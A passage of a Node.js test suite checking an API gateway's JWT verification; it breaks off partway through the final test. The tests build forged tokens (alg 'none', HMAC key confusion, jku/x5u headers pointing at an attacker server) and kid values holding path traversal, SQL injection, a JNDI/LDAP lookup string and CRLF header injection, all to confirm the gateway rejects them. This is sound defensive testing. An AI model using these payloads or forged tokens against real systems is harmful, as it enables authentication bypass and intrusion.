// Authentication: JWTs of every algorithm verified end to end (HMAC in wasm, the rest through
// workerd's WebCrypto), identity headers to the backend, the classic token attacks, JWKS
// rotation with bounded refetches, IdP outages, single-flight key fetches, OIDC discovery,
// the cron's JWKS prefetch, and logs that never carry the token.
//
// Each identity provider of the config has its own mock IdP (tests/support/idp.mjs), so the
// JWKS counters and refetch windows of one scenario do not disturb another. The refetch
// interval is 1 s (the smallest allowed); tests that need a fresh window wait it out
// (bounded: `waitRefetchWindow`).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { startGateway, uniqueId } from "../support/gateway.mjs";
import { startBackend, closeAll, fixed } from "../support/backends.mjs";
import { assertProblem } from "../support/assertions.mjs";
import { delay } from "../support/util.mjs";
import {
  MockIdp,
  ALL_ALGS,
  ASYMMETRIC_ALGS,
  HMAC_ALGS,
  b64url,
  b64urlJson,
  decodeJws,
  generateSigningKey,
  hmacSecret,
  hmacWithPublicKey,
  rawToken,
  signCompact,
  tamperHeader,
  tamperPayload,
  tamperSignature,
  unsignedToken,
} from "../support/idp.mjs";

const AUD = "edgegate-tests";
const HMAC_ISS = "https://hmac.edgegate.test";
const UNSET_ISS = "https://unset-secret.edgegate.test";
const HS_SECRET_NAME = "E2E_JWT_HS_KEY";
const REFETCH_MS = 1000; // refetch_interval_s: 1 for every provider
const MAX_TOKEN_BYTES = 4096;
const IDP_TIMEOUT_MS = 400;

let gw, api, attacker, config;
/** The mock IdPs, one per provider of the config. */
const idp = {};
/** The HMAC key bound as the Worker secret HS_SECRET_NAME. */
const hsSecret = hmacSecret(64);
/** Every token sent to the gateway (checked against the logs at the end). */
const sentTokens = new Set();
/** When the last gateway request (or cron) ended: refetch windows are counted from it. */
let lastCall = 0;

before(async () => {
  const names = ["main", "rot", "ttl", "stale", "strict", "down", "oidc", "oidcuri", "sf", "cron", "weak", "redirect"];
  const started = await Promise.all(names.map((name) => new MockIdp({ name }).start()));
  names.forEach((n, i) => (idp[n] = started[i]));
  await Promise.all([
    idp.main.addKeys(ASYMMETRIC_ALGS),
    idp.oidc.addKeys(["RS256", "ES256"]),
    ...["rot", "ttl", "stale", "strict", "down", "oidcuri", "sf", "cron"].map((n) => idp[n].addKeys(["ES256"])),
  ]);
  idp.stale.cacheControl = "no-store";
  // Unusable JWKS entries next to one good key: each must be skipped, never trusted.
  const weak = await Promise.all([
    generateSigningKey("RS256", "weak-rsa-1024", { modulusLength: 1024 }),
    generateSigningKey("ES256", "weak-enc"),
    generateSigningKey("ES256", "weak-private"),
    generateSigningKey("RS256", "weak-alg-mismatch"),
    generateSigningKey("ES256", "weak-key-ops"),
    generateSigningKey("ES256", "weak-good"),
  ]);
  weak[1].jwk.use = "enc";
  weak[2].jwk = { ...weak[2].privateKey.export({ format: "jwk" }), kid: "weak-private", alg: "ES256", use: "sig" };
  weak[3].jwk.alg = "ES256"; // an RSA key claiming an EC algorithm
  weak[4].jwk.key_ops = ["encrypt"];
  for (const k of weak) idp.weak.addExistingKey(k);
  idp.oidcuri.discoveryOverrides = { jwks_uri: "http://jwks.example.com/jwks" };

  api = await startBackend("api");
  // An attacker's server on 127.0.0.1 serving its own JWKS: the gateway must never ask it.
  attacker = await startBackend("attacker", fixed({ status: 200, headers: { "content-type": "application/json" }, body: "{}" }));

  const jwks = (i, extra = {}) => ({
    issuer: i.issuer,
    jwks_uri: i.jwksUri,
    refetch_interval_s: 1,
    timeout_ms: 2000,
    ...extra,
  });
  const providers = {
    main: jwks(idp.main),
    hmac: { issuer: HMAC_ISS, hmac_secret: HS_SECRET_NAME },
    hmac_unset: { issuer: UNSET_ISS, hmac_secret: "E2E_NOT_BOUND" },
    rot: jwks(idp.rot, { jwks_min_ttl_s: 300 }),
    ttl: jwks(idp.ttl, { jwks_min_ttl_s: 0, jwks_max_ttl_s: 3600 }),
    stale: jwks(idp.stale, { jwks_min_ttl_s: 0, timeout_ms: IDP_TIMEOUT_MS }),
    strict: jwks(idp.strict, { jwks_min_ttl_s: 1, jwks_max_ttl_s: 1, max_stale_s: 0, timeout_ms: IDP_TIMEOUT_MS }),
    down: jwks(idp.down, { timeout_ms: IDP_TIMEOUT_MS }),
    oidc: { issuer: idp.oidc.issuer, discovery_url: idp.oidc.discoveryUrl, refetch_interval_s: 1 },
    oidc_wrong_issuer: {
      issuer: "https://not-the-discovered-issuer.edgegate.test",
      discovery_url: `${idp.oidc.discoveryUrl}?tenant=wrong-issuer`,
      refetch_interval_s: 1,
    },
    oidcuri: { issuer: idp.oidcuri.issuer, discovery_url: idp.oidcuri.discoveryUrl, refetch_interval_s: 1 },
    sf: jwks(idp.sf),
    cron: jwks(idp.cron),
    weak: jwks(idp.weak),
    redirect: jwks(idp.redirect),
  };
  const jwtRules = {
    providers: Object.keys(providers),
    audiences: [AUD],
    algorithms: ALL_ALGS,
    leeway_s: 30,
    max_token_bytes: MAX_TOKEN_BYTES,
  };
  config = {
    // Issuer and method headers are off by default; this suite checks all five.
    gateway: { identity_headers: { issuer: "x-edgegate-issuer", method: "x-edgegate-auth-method" } },
    identity_providers: providers,
    pools: { api: { instances: [{ url: api.url }] } },
    apis: [
      {
        name: "secure",
        base_path: "/secure",
        pool: "api",
        policies: { auth: { accept: ["jwt"], jwt: jwtRules } },
        routes: [
          { name: "any", methods: ["GET", "POST"], path: "/any/{*rest}" },
          {
            name: "rs-only",
            methods: ["GET"],
            path: "/rs-only",
            policies: { auth: { accept: ["jwt"], jwt: { providers: ["main"], audiences: [AUD], algorithms: ["RS256"] } } },
          },
          {
            name: "claims",
            methods: ["GET"],
            path: "/claims",
            policies: { auth: { accept: ["jwt"], jwt: { ...jwtRules, required_claims: ["tenant", "jti"] } } },
          },
          {
            name: "open",
            methods: ["GET"],
            path: "/open",
            policies: { auth: { accept: ["jwt", "anonymous"], jwt: jwtRules } },
          },
        ],
      },
      { name: "public", base_path: "/public", pool: "api", routes: [{ name: "p", methods: ["GET"], path: "/{*rest}" }] },
    ],
  };
  gw = await startGateway({ bindings: { [HS_SECRET_NAME]: hsSecret }, config });
});

after(async () => {
  await gw?.close();
  await closeAll(api, attacker);
  await Promise.all(Object.values(idp).map((i) => i.close()));
});

// ------------------------------------------------------------------------------ helpers

/**
 * Sends `GET path` (with `Authorization: Bearer <token>` when a token is given) and waits for
 * the access line. Returns { res, log, seen } (seen: the backend's record, or null).
 */
async function call(path, { token, headers = {}, method = "GET", authorization } = {}) {
  const h = { ...headers };
  if (token !== undefined) {
    h.authorization = `Bearer ${token}`;
    sentTokens.add(token);
  }
  if (authorization !== undefined) h.authorization = authorization;
  try {
    const { res, log } = await gw.requestLogged({ method, path, headers: h });
    const seen = api.byRequestId(log.request_id)[0] ?? null;
    return { res, log, seen };
  } finally {
    lastCall = Date.now();
  }
}

/** A request that must pass: 200, the backend got it, the access line says jwt. */
async function expectOk(token, { path = "/secure/any/x", headers, what = "" } = {}) {
  const r = await call(path, { token, headers });
  assert.equal(r.res.status, 200, `${what} expected 200, got ${r.res.status}: ${r.res.text}\n${r.log.error_detail ?? ""}`);
  assert.ok(r.seen, `${what} the backend received the request`);
  assert.equal(r.log.auth_method, "jwt", `${what} access log auth_method`);
  return r;
}

/**
 * A request that must be refused with `code` (401 unless told): problem+json, the RFC 6750
 * challenge on 401s, the error code in the access line, and nothing sent to the backend.
 */
async function expectRejected(token, code, { path = "/secure/any/x", status = 401, what = "", ...opts } = {}) {
  const r = await call(path, { token, ...opts });
  assert.equal(
    r.res.status,
    status,
    `${what} expected ${status} ${code}, got ${r.res.status}: ${r.res.text} (log detail: ${r.log.error_detail})`,
  );
  const problem = assertProblem(r.res, { status, code });
  if (status === 401) {
    const challenge =
      code === "missing_credentials"
        ? 'Bearer realm="edgegate"'
        : `Bearer realm="edgegate", error="invalid_token", error_description="${code}"`;
    assert.equal(r.res.headers["www-authenticate"], challenge, `${what} WWW-Authenticate`);
  }
  assert.equal(r.log.error_code, code, `${what} access log error_code`);
  assert.equal(r.seen, null, `${what} the backend must not be called`);
  return { ...r, problem };
}

/** Waits until a refetch window has passed since the last gateway call (bounded: ~1.2 s). */
async function waitRefetchWindow() {
  const wait = lastCall + REFETCH_MS + 200 - Date.now();
  if (wait > 0) await delay(wait);
}

const hsToken = (alg, claims = {}, opts = {}) =>
  idp.main.sign({ alg, secret: hsSecret, claims: { iss: HMAC_ISS, ...claims }, ...opts });

const now = () => Math.floor(Date.now() / 1000);

// ------------------------------------------------------------------------------ algorithms

test("every algorithm end to end (HS* in wasm with the bound secret; RS*, PS*, ES256, ES384, EdDSA through WebCrypto) → 200 with the identity headers", async (t) => {
  for (const alg of ALL_ALGS) {
    await t.test(alg, async () => {
      const hmac = HMAC_ALGS.includes(alg);
      const claims = { sub: `user-${alg}`, azp: `app-${alg}`, scope: "orders:read orders:write" };
      const token = hmac ? hsToken(alg, claims) : idp.main.sign({ alg, claims });
      const { seen, log } = await expectOk(token, { path: `/secure/any/alg/${alg}`, what: alg });
      const h = seen.headers;
      assert.equal(h["x-edgegate-subject"], `user-${alg}`);
      assert.equal(h["x-edgegate-issuer"], hmac ? HMAC_ISS : idp.main.issuer);
      assert.equal(h["x-edgegate-application"], `app-${alg}`);
      assert.equal(h["x-edgegate-scopes"], "orders:read orders:write");
      assert.equal(h["x-edgegate-auth-method"], "jwt");
      assert.equal(seen.url, `/any/alg/${alg}`);
      assert.equal(log.subject, `user-${alg}`);
      assert.equal(log.application, `app-${alg}`);
      assert.equal(log.status, 200);
    });
  }
});

test("client_id and an scp array give application and scopes; a claim the token lacks sends no header", async () => {
  const token = idp.main.sign({
    alg: "ES256",
    claims: { sub: undefined, client_id: "cli-7", scp: ["a", "b"] },
  });
  const { seen, log } = await expectOk(token);
  assert.equal(seen.headers["x-edgegate-application"], "cli-7");
  assert.equal(seen.headers["x-edgegate-scopes"], "a b");
  assert.equal(seen.headers["x-edgegate-subject"], undefined, "no sub → no subject header");
  assert.equal(seen.headers["x-edgegate-auth-method"], "jwt");
  assert.equal(log.subject, null);
  assert.equal(log.application, "cli-7");
});

test("a repeated (cached) token still passes, and a token without kid uses the only key that fits its alg", async () => {
  const token = idp.main.sign({ alg: "RS256", claims: { sub: "repeat" } });
  for (let i = 0; i < 3; i++) {
    const { seen } = await expectOk(token, { what: `repeat ${i}` });
    assert.equal(seen.headers["x-edgegate-subject"], "repeat");
  }
  const noKid = idp.main.sign({ alg: "ES384", kid: null, claims: { sub: "no-kid" } });
  assert.equal(decodeJws(noKid).header.kid, undefined);
  const { seen } = await expectOk(noKid, { what: "no kid" });
  assert.equal(seen.headers["x-edgegate-subject"], "no-kid");
});

// ------------------------------------------------------------------------------ signatures

test("a tampered signature → 401 bad_signature, for every algorithm", async (t) => {
  for (const alg of ALL_ALGS) {
    await t.test(alg, async () => {
      const good = HMAC_ALGS.includes(alg) ? hsToken(alg) : idp.main.sign({ alg });
      await expectRejected(tamperSignature(good), "bad_signature", { what: alg });
    });
  }
});

test("signatures of the wrong shape → bad_signature: DER-encoded ECDSA, truncated RSA, empty, another key's", async () => {
  await expectRejected(idp.main.sign({ alg: "ES256", dsaEncoding: "der" }), "bad_signature", { what: "ES256 DER" });
  await expectRejected(idp.main.sign({ alg: "ES384", dsaEncoding: "der" }), "bad_signature", { what: "ES384 DER" });
  const rs = idp.main.sign({ alg: "RS256" });
  const [h, p, s] = rs.split(".");
  const short = b64url(Buffer.from(s, "base64url").subarray(0, 255));
  await expectRejected(rawToken(h, p, short), "bad_signature", { what: "RSA signature one byte short" });
  await expectRejected(rawToken(h, p, ""), "bad_signature", { what: "empty signature" });
  // Signed by the ES256 key, but the header names the (P-256) key... of another IdP: the
  // issuer's own key does not verify it.
  const foreign = idp.main.sign({ key: idp.rot.keyFor("ES256"), kid: idp.main.keyFor("ES256").kid, alg: "ES256" });
  await expectRejected(foreign, "bad_signature", { what: "signed by another IdP's key" });
});

test("a tampered payload (sub, scope, exp) or header (typ, alg relabelled) with the signature kept → 401 bad_signature", async () => {
  for (const alg of ["HS256", "RS256", "PS384", "ES256", "EdDSA"]) {
    const good = HMAC_ALGS.includes(alg) ? hsToken(alg) : idp.main.sign({ alg });
    await expectRejected(tamperPayload(good, (c) => ({ ...c, sub: "admin" })), "bad_signature", { what: `${alg} sub` });
    await expectRejected(tamperPayload(good, (c) => ({ ...c, scope: "admin" })), "bad_signature", { what: `${alg} scope` });
    await expectRejected(tamperPayload(good, (c) => ({ ...c, exp: c.exp + 86400 })), "bad_signature", { what: `${alg} exp` });
    // The header is signed too.
    await expectRejected(tamperHeader(good, (h) => ({ ...h, typ: "at+jwt" })), "bad_signature", { what: `${alg} header typ` });
  }
  // RS256 relabelled PS256 (with the PS256 key's kid): same key family, still refused.
  const rs = idp.main.sign({ alg: "RS256" });
  const relabelled = tamperHeader(rs, (h) => ({ ...h, alg: "PS256", kid: idp.main.keyFor("PS256").kid }));
  await expectRejected(relabelled, "bad_signature", { what: "RS256 signature labelled PS256" });
});

// ------------------------------------------------------------------------------ attacks

test('alg "none" in every spelling (empty or fake signature) → 401 algorithm_not_allowed', async () => {
  const kid = idp.main.keyFor("RS256").kid;
  for (const alg of ["none", "None", "NONE", "nOnE"]) {
    for (const signature of ["", b64url("fake-signature-bytes-0123456789")]) {
      const token = unsignedToken(idp.main.claims({ sub: "admin" }), { alg, header: { kid }, signature });
      await expectRejected(token, "algorithm_not_allowed", { what: `alg ${alg}, signature ${signature ? "fake" : "empty"}` });
    }
  }
  // Unknown or lookalike algorithms are refused the same way.
  for (const alg of ["HS1", "rs256", "RS256 ", "ES512", ""]) {
    const token = unsignedToken(idp.main.claims(), { alg, signature: b64url("x".repeat(32)) });
    await expectRejected(token, "algorithm_not_allowed", { what: `alg ${JSON.stringify(alg)}` });
  }
});

test("HS256 signed with the IdP's RSA public key (key confusion) → 401, never accepted", async () => {
  const rsa = idp.main.keyFor("RS256");
  for (const form of ["pem", "der", "jwk-n"]) {
    for (const alg of ["HS256", "HS512"]) {
      const header = { alg, typ: "JWT", kid: rsa.kid };
      // iss = the JWKS provider: an HMAC algorithm never goes with a JWKS provider's key.
      const t1 = hmacWithPublicKey(rsa.publicKey, header, idp.main.claims({ sub: "admin" }), { form, alg });
      await expectRejected(t1, "algorithm_not_allowed", { what: `${alg} with public key (${form}), iss main` });
      // iss = the HMAC provider: verified with the real shared secret, so it fails.
      const t2 = hmacWithPublicKey(rsa.publicKey, header, idp.main.claims({ sub: "admin", iss: HMAC_ISS }), { form, alg });
      await expectRejected(t2, "bad_signature", { what: `${alg} with public key (${form}), iss hmac` });
    }
  }
});

test("the algorithm must be in the route's allow-list and fit the kid's key", async () => {
  // The route accepts RS256 only.
  await expectRejected(idp.main.sign({ alg: "ES256" }), "algorithm_not_allowed", { path: "/secure/rs-only", what: "ES256 on RS256-only route" });
  await expectRejected(idp.main.sign({ alg: "PS256" }), "algorithm_not_allowed", { path: "/secure/rs-only", what: "PS256 on RS256-only route" });
  await expectRejected(hsToken("HS256"), "algorithm_not_allowed", { path: "/secure/rs-only", what: "HS256 on RS256-only route" });
  await expectOk(idp.main.sign({ alg: "RS256" }), { path: "/secure/rs-only" });
  // The JWK declares its alg: the same RSA key may not be used with another RSA algorithm.
  const rs256 = idp.main.keyFor("RS256");
  await expectRejected(idp.main.sign({ alg: "PS256", kid: rs256.kid }), "algorithm_not_allowed", { what: "PS256 with an RS256 JWK" });
  await expectRejected(idp.main.sign({ alg: "RS384", kid: rs256.kid }), "algorithm_not_allowed", { what: "RS384 with an RS256 JWK" });
  await expectRejected(idp.main.sign({ alg: "ES384", kid: idp.main.keyFor("ES256").kid, key: idp.main.keyFor("ES384") }), "algorithm_not_allowed", {
    what: "ES384 naming a P-256 key",
  });
});

test("kid path traversal / injection → 401 unknown_key; the kid never reaches a URL or another host", async () => {
  const before = idp.main.requests.length;
  const startedAt = Date.now();
  const real = idp.main.keyFor("ES256");
  const kids = [
    "../../../../etc/passwd",
    "..%2f..%2fjwks",
    "/jwks?kid=x",
    `${real.kid}/../${real.kid}x`,
    `${real.kid} `,
    "' OR '1'='1",
    '"; DROP TABLE keys; --',
    `\${jndi:ldap://${attacker.address}/a}`,
    `http://${attacker.address}/kid`,
    "kid\r\nx-injected: 1",
    "x".repeat(2000),
  ];
  for (const kid of kids) {
    // Signed by the real key: only the kid is wrong.
    const token = idp.main.sign({ alg: "ES256", key: real, kid });
    await expectRejected(token, "unknown_key", { what: `kid ${JSON.stringify(kid).slice(0, 60)}` });
  }
  // A kid that is not a string is malformed.
  for (const kid of [7, ["a"], { $ref: "x" }, true]) {
    const token = idp.main.sign({ alg: "ES256", key: real, kid: undefined, header: { kid } });
    await expectRejected(token, "malformed_token", { what: `kid ${JSON.stringify(kid)}` });
  }
  const after = idp.main.requests.slice(before);
  assert.ok(after.every((r) => r.url === "/jwks"), `the IdP only ever saw GET /jwks: ${JSON.stringify(after.map((r) => r.url))}`);
  for (const r of after) {
    assert.equal(r.method, "GET");
    assert.equal(r.headers.authorization, undefined, "the client's token is not sent to the IdP");
    assert.equal(r.headers.cookie, undefined);
  }
  const windows = Math.ceil((Date.now() - startedAt) / REFETCH_MS) + 1;
  assert.ok(after.length <= windows, `at most one refetch per interval (saw ${after.length} JWKS requests in ${windows} windows)`);
  assert.equal(attacker.records.length, 0, "the attacker's server received nothing");
});

test("an embedded `jwk` header is ignored: keys come only from the issuer's JWKS", async () => {
  const evil = await generateSigningKey("RS256", "attacker-key");
  const claims = idp.main.claims({ sub: "admin" });
  const withJwk = (kid) => signCompact({ alg: "RS256", typ: "JWT", ...(kid ? { kid } : {}), jwk: evil.jwk }, claims, evil.privateKey);
  await expectRejected(withJwk("attacker-key"), "unknown_key", { what: "jwk header, attacker kid" });
  await expectRejected(withJwk(idp.main.keyFor("RS256").kid), "bad_signature", { what: "jwk header, the IdP's kid" });
  await expectRejected(withJwk(null), "bad_signature", { what: "jwk header, no kid" });
  // The same for x5c (a self-signed chain is never looked at).
  const x5c = signCompact({ alg: "RS256", kid: idp.main.keyFor("RS256").kid, x5c: [b64url("not a cert")] }, claims, evil.privateKey);
  await expectRejected(x5c, "bad_signature", { what: "x5c header" });
});

test("`jku` / `x5u` pointing at an attacker's server on 127.0.0.1 → 401, and that server gets NO request", async () => {
  const evil = await generateSigningKey("ES256", "attacker-jku-key");
  attacker.behaviour = fixed({
    status: 200,
    headers: { "content-type": "application/json", "cache-control": "max-age=3600" },
    body: JSON.stringify({ keys: [evil.jwk] }),
  });
  const claims = idp.main.claims({ sub: "admin" });
  const cases = [
    [{ jku: `${attacker.url}/jwks.json`, kid: evil.kid }, "unknown_key"],
    [{ x5u: `${attacker.url}/cert.pem`, kid: evil.kid }, "unknown_key"],
    [{ jku: `${attacker.url}/jwks.json` }, "bad_signature"], // no kid: the issuer's one ES256 key
    [{ jku: `${attacker.url}/jwks.json`, kid: idp.main.keyFor("ES256").kid }, "bad_signature"],
  ];
  for (const [extra, code] of cases) {
    const token = signCompact({ alg: "ES256", typ: "JWT", ...extra }, claims, evil.privateKey);
    await expectRejected(token, code, { what: JSON.stringify(extra) });
  }
  // The issuer names the attacker's server too: still only the configured JWKS is used.
  const token = signCompact({ alg: "ES256", jku: `${attacker.url}/jwks.json`, kid: evil.kid }, { ...claims, iss: attacker.url }, evil.privateKey);
  await expectRejected(token, "wrong_issuer", { what: "iss = attacker" });
  await delay(100); // a stray background fetch would have landed by now
  assert.equal(attacker.records.length, 0, `the attacker's server got requests: ${JSON.stringify(attacker.records.map((r) => r.url))}`);
});

test("a kid from another IdP's JWKS does not verify a token of this issuer", async () => {
  const rotKey = idp.rot.keyFor("ES256");
  const token = idp.main.sign({ alg: "ES256", key: rotKey, claims: { iss: idp.main.issuer } });
  await expectRejected(token, "unknown_key");
});

test("a JWKS answered with a redirect to another server is not followed: 503 idp_unavailable, and that server gets NO request", async () => {
  const evil = await generateSigningKey("ES256", "redirected-key");
  attacker.behaviour = fixed({
    status: 200,
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ keys: [evil.jwk] }),
  });
  idp.redirect.jwksRedirect = `${attacker.url}/jwks-via-redirect`;
  try {
    const token = signCompact({ alg: "ES256", typ: "JWT", kid: evil.kid }, idp.redirect.claims({ sub: "admin" }), evil.privateKey);
    const r = await call("/secure/any/x", { token });
    const hits = attacker.records.filter((x) => x.url === "/jwks-via-redirect").length;
    assert.equal(
      r.res.status,
      503,
      `keys must come from the configured jwks_uri only (a redirect may point at http:// or another host); got ${r.res.status} ${r.log.error_code}, redirect target requests: ${hits}`,
    );
    assertProblem(r.res, { status: 503, code: "idp_unavailable" });
    assert.equal(hits, 0, "the redirect target received no request");
    assert.equal(idp.redirect.counts.jwks, 1);
  } finally {
    idp.redirect.jwksRedirect = null;
  }
});

test("expired and not-yet-valid tokens (beyond the leeway) → token_expired / token_not_yet_valid; within the leeway → 200", async () => {
  const t = now();
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { exp: t - 3600, iat: t - 7200 } }), "token_expired", { what: "exp 1 h ago" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { exp: t - 60, iat: t - 600 } }), "token_expired", { what: "exp 60 s ago (leeway 30)" });
  await expectOk(idp.main.sign({ alg: "ES256", claims: { exp: t - 5 } }), { what: "exp 5 s ago (leeway 30)" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { nbf: t + 3600 } }), "token_not_yet_valid", { what: "nbf in 1 h" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { iat: t + 3600 } }), "token_not_yet_valid", { what: "iat in 1 h" });
  await expectOk(idp.main.sign({ alg: "ES256", claims: { nbf: t + 5 } }), { what: "nbf in 5 s (leeway 30)" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { exp: undefined } }), "missing_claim", { what: "no exp" });
  await expectRejected(hsToken("HS256", { exp: t - 3600 }), "token_expired", { what: "HS256 expired" });
});

test("a cached (verified) token is refused once it expires", async () => {
  const token = idp.main.sign({ alg: "ES256", claims: { exp: now() - 28 } }); // leeway 30: ~2 s left
  await expectOk(token, { what: "just inside the leeway" });
  await delay(3100);
  await expectRejected(token, "token_expired", { what: "the same token after expiry" });
});

test("wrong audience → wrong_audience; wrong or unlisted issuer → wrong_issuer", async () => {
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { aud: "another-api" } }), "wrong_audience", { what: "aud string" });
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { aud: ["a", "b"] } }), "wrong_audience", { what: "aud array" });
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { aud: undefined } }), "wrong_audience", { what: "no aud" });
  await expectOk(idp.main.sign({ alg: "RS256", claims: { aud: ["other", AUD] } }), { what: "aud array containing ours" });
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { iss: "https://evil.example" } }), "wrong_issuer", { what: "unknown iss" });
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { iss: `${idp.main.issuer}/` } }), "wrong_issuer", { what: "iss with a trailing slash" });
  await expectRejected(idp.main.sign({ alg: "RS256", claims: { iss: undefined } }), "wrong_issuer", { what: "no iss" });
  // The rs-only route lists only `main`: a valid token of another provider is refused.
  await expectRejected(idp.rot.sign({ alg: "ES256" }), "algorithm_not_allowed", { path: "/secure/rs-only", what: "ES256 of rot" });
  await expectRejected(hsToken("HS256"), "algorithm_not_allowed", { path: "/secure/rs-only" });
  const rotRs = await idp.rot.addKey("RS256", { publish: false });
  await expectRejected(idp.rot.sign({ alg: "RS256", key: rotRs }), "wrong_issuer", { path: "/secure/rs-only", what: "RS256 of an unlisted provider" });
});

test("malformed tokens and Authorization fields → 401 malformed_token", async () => {
  const good = idp.main.sign({ alg: "ES256" });
  const [h, p, s] = good.split(".");
  const cases = {
    "one part": "abcdef",
    "two parts": `${h}.${p}`,
    "four parts": `${h}.${p}.${s}.${s}`,
    "empty header": `.${p}.${s}`,
    "header not base64url (std alphabet +/)": `${h.slice(0, -2)}+/.${p}.${s}`,
    "base64 padding": `${h}==.${p}.${s}`,
    "header not JSON": `${b64url("not json")}.${p}.${s}`,
    "header JSON not an object": `${b64urlJson(["alg", "ES256"])}.${p}.${s}`,
    "payload not JSON": `${h}.${b64url("{not json")}.${s}`,
    "payload not an object": `${h}.${b64urlJson("claims")}.${s}`,
    "signature not base64url": `${h}.${p}.${s.slice(0, -2)}+/`,
    "sub not a string": idp.main.sign({ alg: "ES256", claims: { sub: 42 } }),
    "aud a number": idp.main.sign({ alg: "ES256", claims: { aud: 7 } }),
    "exp a string": idp.main.sign({ alg: "ES256", claims: { exp: "tomorrow" } }),
    "scope an object": idp.main.sign({ alg: "ES256", claims: { scope: { a: 1 } } }),
  };
  for (const [what, token] of Object.entries(cases)) {
    await expectRejected(token, "malformed_token", { what });
  }
  // Characters outside token68 in the field itself.
  for (const value of [`Bearer ${h}.${p}.${s}!`, `Bearer ${h} ${p}`, "Bearer ", 'Bearer "quoted"']) {
    await expectRejected(undefined, "malformed_token", { authorization: value, what: JSON.stringify(value.slice(0, 30)) });
  }
  // Two Authorization fields.
  await expectRejected(undefined, "malformed_token", { authorization: [`Bearer ${good}`, `Bearer ${good}`], what: "two Authorization fields" });
  // A duplicate header key.
  const dup = `${b64url(`{"alg":"ES256","alg":"none","kid":"${idp.main.keyFor("ES256").kid}"}`)}.${p}.${s}`;
  await expectRejected(dup, "malformed_token", { what: "duplicate alg in the header" });
});

test("an oversized token → 401 token_too_large; exactly max_token_bytes → 200", async () => {
  // A validly signed ES256 token of exactly `len` bytes: a claim pads the payload and a
  // header field fixes the base64 rounding (not every length is reachable from one part).
  const sized = (len) => {
    const make = (pad, hpad) =>
      idp.main.sign({ alg: "ES256", header: { x: "h".repeat(hpad) }, claims: { pad: "p".repeat(pad) } });
    const base = make(0, 0).length;
    const start = Math.max(0, Math.floor(((len - base) * 3) / 4) - 6);
    for (let hpad = 0; hpad < 3; hpad++) {
      for (let pad = start; pad < start + 16; pad++) {
        const token = make(pad, hpad);
        if (token.length === len) return token;
      }
    }
    throw new Error(`could not make a token of ${len} bytes`);
  };
  const exact = sized(MAX_TOKEN_BYTES);
  assert.equal(exact.length, MAX_TOKEN_BYTES);
  await expectOk(exact, { what: "exactly max_token_bytes" });
  const over = sized(MAX_TOKEN_BYTES + 1);
  await expectRejected(over, "token_too_large", { what: "max_token_bytes + 1" });
  await expectRejected(sized(7000), "token_too_large", { what: "7000 bytes" });
  await expectRejected(`${"a".repeat(6000)}.b.c`, "token_too_large", { what: "6000 bytes of garbage" });
});

test("a `crit` header → unsupported_critical_header", async () => {
  const token = idp.main.sign({ alg: "ES256", header: { crit: ["exp"], exp: 1 } });
  await expectRejected(token, "unsupported_critical_header");
  await expectRejected(idp.main.sign({ alg: "ES256", header: { b64: false, crit: ["b64"] } }), "unsupported_critical_header", { what: "b64" });
});

test('a missing token → 401 missing_credentials with WWW-Authenticate: Bearer realm="edgegate"', async () => {
  const { res } = await expectRejected(undefined, "missing_credentials", { what: "no Authorization" });
  assert.equal(res.headers["www-authenticate"], 'Bearer realm="edgegate"');
  await expectRejected(undefined, "missing_credentials", { authorization: "Basic dXNlcjpwYXNz", what: "Basic" });
  await expectRejected(undefined, "missing_credentials", { authorization: `Token ${idp.main.sign({ alg: "ES256" })}`, what: "Token scheme" });
  // The token in a query parameter or a cookie does not count.
  const t = idp.main.sign({ alg: "ES256" });
  sentTokens.add(t);
  await expectRejected(undefined, "missing_credentials", { path: `/secure/any/x?access_token=${t}`, what: "query" });
  await expectRejected(undefined, "missing_credentials", { headers: { cookie: `token=${t}` }, what: "cookie" });
  // The scheme is case-insensitive.
  const r = await call("/secure/any/x", { authorization: `bEaReR ${t}` });
  assert.equal(r.res.status, 200, r.res.text);
});

test("required_claims: a missing claim → missing_claim; present → 200", async () => {
  await expectRejected(idp.main.sign({ alg: "ES256" }), "missing_claim", { path: "/secure/claims", what: "no tenant" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { tenant: "t1", jti: undefined } }), "missing_claim", {
    path: "/secure/claims",
    what: "no jti",
  });
  await expectOk(idp.main.sign({ alg: "ES256", claims: { tenant: "t1" } }), { path: "/secure/claims" });
});

test("an hmac_secret provider whose secret is not bound → 500 internal_error (not a 401, not a pass)", async () => {
  const token = hsToken("HS256", { iss: UNSET_ISS });
  await expectRejected(token, "internal_error", { status: 500 });
});

// ------------------------------------------------------------------------------ identity

test("anonymous where accepted: no token → anonymous; a bad token is still refused, never downgraded", async () => {
  const r = await call("/secure/open", { headers: { "x-edgegate-subject": "admin" } });
  assert.equal(r.res.status, 200, r.res.text);
  assert.equal(r.seen.headers["x-edgegate-auth-method"], "anonymous");
  assert.equal(r.seen.headers["x-edgegate-subject"], undefined, "a client-sent subject is dropped");
  assert.equal(r.log.auth_method, "anonymous");
  assert.equal(r.log.subject, null);
  const ok = await expectOk(idp.main.sign({ alg: "ES256", claims: { sub: "known" } }), { path: "/secure/open" });
  assert.equal(ok.seen.headers["x-edgegate-subject"], "known");
  await expectRejected(tamperSignature(idp.main.sign({ alg: "ES256" })), "bad_signature", { path: "/secure/open" });
  await expectRejected(idp.main.sign({ alg: "ES256", claims: { exp: now() - 3600 } }), "token_expired", { path: "/secure/open" });
});

test("client-sent identity headers are never forwarded as sent (JWT, anonymous and unauthenticated routes)", async () => {
  const spoof = {
    "x-edgegate-subject": "admin",
    "X-EdgeGate-Issuer": "https://evil.example",
    "x-edgegate-application": "evil-app",
    "x-edgegate-scopes": "admin:all",
    "x-edgegate-auth-method": "mtls",
  };
  const token = idp.main.sign({ alg: "ES256", claims: { sub: "real-user", azp: "real-app", scope: undefined } });
  const { seen } = await expectOk(token, { headers: spoof });
  assert.equal(seen.headers["x-edgegate-subject"], "real-user");
  assert.equal(seen.headers["x-edgegate-issuer"], idp.main.issuer);
